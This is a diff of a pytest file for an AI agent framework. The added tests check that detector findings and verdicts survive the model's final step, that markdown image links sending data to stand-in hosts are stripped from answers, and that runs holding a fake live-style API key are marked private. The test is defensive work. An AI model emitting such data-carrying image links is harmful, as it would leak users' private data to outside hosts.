@@ -1,6 +1,7 @@
 """What the model does in a run, by profile; the procedure's output stands where it can do nothing."""
 
 import json
+from dataclasses import replace
 
 import pytest
 
@@ -14,9 +15,12 @@ from agents.model.question import Decision
 from agents.model.session import ModelSession
 from agents.outputs.answer import Answer
 from agents.outputs.findings import FindingRecord, Findings
+from agents.outputs.verdict import Verdict
 from agents.procedures.procedure import AgentTask
 from agents.steps.findings_answer import add_reported
 from agents.steps.model_phase import StepsPhase, with_votes
+from agents.steps.written_text import checked_answer
+from agents.tools.tool import Taint
 from agents.workspace.workspace import Workspace
 from engine.api.request import Request
 from tests.fakes.scripted_client import ScriptedClient
@@ -134,6 +138,47 @@ async def test_steps_replace_the_output_of_agents_that_require_them():
     after = await phase_of(ScriptedClient(script), profile())(TASK, Answer(text="before"), run)
     assert after.text == "Done."
     assert [name for name, _ in run.calls] == ["read"]
+
+
+def final_step(**members):
+    given = json.dumps(members, separators=(",", ":"))
+    return f'{{"thought": "", "action": "final_answer", "input": {given}}}'
+
+
+async def stepped(output, *script, task=TASK):
+    run = FakeStepRun(step_tools(FILES), requires=Capability.REACT)
+    return await phase_of(ScriptedClient(script), profile())(task, output, run), run
+
+
+async def test_an_answer_keeps_the_findings_of_the_detectors():
+    before = Answer(text="before", findings=[RECORD])
+    after, _ = await stepped(before, final_step(cannot_do="", text="All is well.", citations=[]))
+    assert (after.text, after.findings) == ("All is well.", [RECORD])
+
+
+async def test_a_model_does_not_decide_a_verdict():
+    before = Verdict(score=20, passed=False, reasons=["Tests failed."], findings=[RECORD])
+    after, run = await stepped(before, final_step())
+    assert after == before
+    assert run.notes == []
+
+
+async def test_an_image_that_would_carry_data_away_is_taken_out_of_an_answer():
+    text = "![x](//e.net/?d=abcdefgh"
+    after, _ = await stepped(Answer(), final_step(cannot_do="", text=text, citations=[]))
+    assert after.text == "![x]([exfiltration removed]"
+    assert checked_answer({"a": ["![x](https://e.example.net/p.png?d=abcdefghijkl)", 1]}) == {
+        "a": ["![x]([exfiltration removed])", 1]
+    }
+    assert checked_answer("a\u200bb") == checked_answer("ab")
+
+
+async def test_what_the_model_is_shown_labels_the_run():
+    _, run = await stepped(Answer(), final_step(cannot_do="", text="x", citations=[]))
+    assert run.taint == {Taint.UNTRUSTED, Taint.LOCAL}
+    secret = replace(TASK, document="key = rk_live_51Zq8Lm3Xv0Pt7Ws2Ka9")
+    _, run = await stepped(Answer(), final_step(cannot_do="", text="x", citations=[]), task=secret)
+    assert Taint.PRIVATE in run.taint
 
 
 async def test_a_spent_budget_leaves_the_procedures_output():
